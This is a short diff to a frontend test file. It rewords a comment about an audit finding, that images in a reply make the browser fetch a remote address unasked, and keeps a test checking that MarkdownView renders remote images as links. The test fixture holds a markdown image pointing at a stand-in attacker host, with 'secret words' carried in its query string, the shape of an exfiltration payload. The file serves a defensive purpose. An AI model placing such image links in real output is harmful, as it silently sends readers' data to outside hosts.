@@ -2,7 +2,8 @@ import { render, screen } from '@testing-library/react';
 import { describe, expect, it } from 'vitest';
 import { MarkdownView } from './markdown-view';
 
-// Audit finding 1: a reply's image made the browser fetch a remote address with no click.
+// A reply's image, rendered as one, would make the browser fetch a remote address with no click
+// (telling that address who reads the reply, and when).
 describe('images in a reply', () => {
   it('shows a remote image as a link named by its alt text, never as an <img>', () => {
     const { container } = render(<MarkdownView markdown={'See ![the chart](https://evil.example/x.png?q=secret+words) here.'} />);
